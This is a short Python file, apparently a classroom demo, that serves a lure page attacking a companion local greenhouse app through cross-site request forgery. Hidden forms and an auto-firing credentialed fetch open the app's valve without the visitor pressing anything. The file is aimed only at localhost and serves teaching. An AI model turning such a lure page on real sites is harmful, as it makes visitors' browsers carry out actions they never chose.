"""A page that wants to water somebody else's greenhouse.

Run it with CPython or MicroPython:  python attacker.py
Then open http://localhost:5001 in the browser that has greenhouse.py open, too. The attacker needs no way to the
greenhouse: your browser, which has one, sends the form.

"""
from microdot import Microdot

TARGET = 'http://localhost:5000'  # greenhouse.py

PAGE = '''<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>You have won</title>
<link rel="icon" href="data:,">
<style>
:root { color-scheme: light dark; }
body { font: 1rem/1.5 system-ui, sans-serif; max-width: 40rem; margin: 2rem auto; padding: 0 1rem; }
button { font: inherit; padding: .4rem .7rem; }
</style>
</head>
<body>
<h1>You have won a watering can!</h1>
<form method="post" action="TARGET/valve">
  <input type="hidden" name="to" value="open">
  <p><button id="valve">Take it</button> This opens the valve, if it can.</p>
</form>
<form method="post" action="TARGET/lamp">
  <input type="hidden" name="to" value="on">
  <p><button id="lamp">Take a lamp instead</button> This turns on the lamp, which is not protected.</p>
</form>
<p id="state" role="status"></p>

<script>
// Nobody has to press a button. The page cannot read what is answered, but that is not what it is for.
const body = new URLSearchParams({to: 'open'});
fetch('TARGET/valve', {method: 'POST', mode: 'no-cors', credentials: 'include', body})
    .catch(() => null)
    .then(() => document.getElementById('state').textContent = 'This page has sent something already.');
</script>
</body>
</html>
'''.replace('TARGET', TARGET)

app = Microdot()


@app.get('/')
async def index(request):
    return PAGE, {'Content-Type': 'text/html; charset=UTF-8'}


if __name__ == '__main__':
    app.run(port=5001, debug=True)
